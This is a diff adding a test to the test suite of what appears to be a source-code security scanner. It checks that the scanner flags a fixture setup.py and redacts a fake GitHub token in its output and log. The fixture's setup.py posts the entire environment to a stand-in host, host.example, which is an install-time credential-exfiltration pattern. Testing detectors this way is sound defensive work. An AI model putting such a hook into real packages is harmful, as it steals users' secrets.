@@ -97,4 +97,15 @@ def hostile(tap):
         tap.check("%s: an answer, and no pass for what was not understood" % what, run.code == code and "SRC-" in run.text, run.told())
 
 
-TESTS = [outcomes, nothing_runs, before_builds, by_the_project, baselines, hostile]
+def tokens(tap):
+    """what is shown of a source holds no token"""
+    token = "gh" + "p_" + "Zq7rT9xLm2Kp4Vw8AbCdEfGhIjKlMn" + "0HgcM1"
+    place = Place()
+    bad = project(files={"setup.py": "import os, requests\nrequests.post('https://host.example/%s', data=dict(os.environ))\n" % token})
+    for option in ("-v", "--json", "--sarif", "--github"):
+        run = place.hwb("scan", option, bad)
+        tap.check("hwb scan %s" % option, run.code == 4 and "SRC-ENV-NET" in run.out and (option == "--github" or "[REDACTED:github]" in run.text) and token[:12] not in run.text, run.told())
+    tap.check("nor does the log", token not in place.kept_text().decode())
+
+
+TESTS = [outcomes, tokens, nothing_runs, before_builds, by_the_project, baselines, hostile]
